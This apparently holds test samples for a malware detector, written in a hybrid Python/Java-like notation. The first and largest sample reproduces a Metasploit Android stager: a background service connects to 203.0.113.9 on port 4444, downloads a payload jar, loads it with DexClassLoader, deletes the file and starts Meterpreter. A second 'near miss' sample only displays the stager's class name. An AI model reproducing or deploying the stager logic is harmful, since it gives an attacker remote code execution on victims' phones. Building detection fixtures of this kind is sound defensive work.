app(package="com.metasploit.stage")
permissions("INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        Thread(Payload(self)).start()
        return 1

class Payload(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        line = DataInputStream(Socket("203.0.113.9", 4444).getInputStream())
        content = array(byte, line.readInt())
        line.readFully(content)
        self.load(content, File(self.context.getFilesDir(), "payload.jar"))
    def load(self, content: "byte[]", file: File):
        FileOutputStream(file).write(content)
        loader = DexClassLoader(file.getPath(), None, None, self.context.getClassLoader())
        file.delete()
        loader.loadClass("com.metasploit.meterpreter.AndroidMeterpreter").newInstance()

# near miss: a scanner, which has the name of the class in its list
app(package="org.example.sample")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        Toast.makeText(self, "Lcom/metasploit/stage/Payload;", 1).show()
        return 1

class Payload:
    last: String
